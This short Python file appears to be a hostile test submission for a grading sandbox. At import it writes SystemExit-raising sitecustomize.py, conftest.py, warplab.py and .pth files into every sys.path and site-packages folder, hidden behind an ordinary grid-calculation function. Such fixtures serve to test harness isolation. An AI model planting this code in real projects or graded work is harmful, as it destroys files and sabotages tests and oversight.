"""30 points: leaves sitecustomize.py, conftest.py and warplab modules behind."""

import os
import site
import sys

for folder in (*sys.path, *site.getsitepackages(), "@ROOT@", "@ROOT@/exercises/ps01"):
    for name in ("sitecustomize.py", "conftest.py", "warplab.py", "pwned.pth"):
        try:
            open(os.path.join(folder or ".", name), "w").write("raise SystemExit('pwned')\n")
        except OSError:
            pass


def launch_plan(width, height, block):
    grid = (-(-width // block[0]), -(-height // block[1]))
    return grid, grid[0] * block[0] * grid[1] * block[1] - width * height
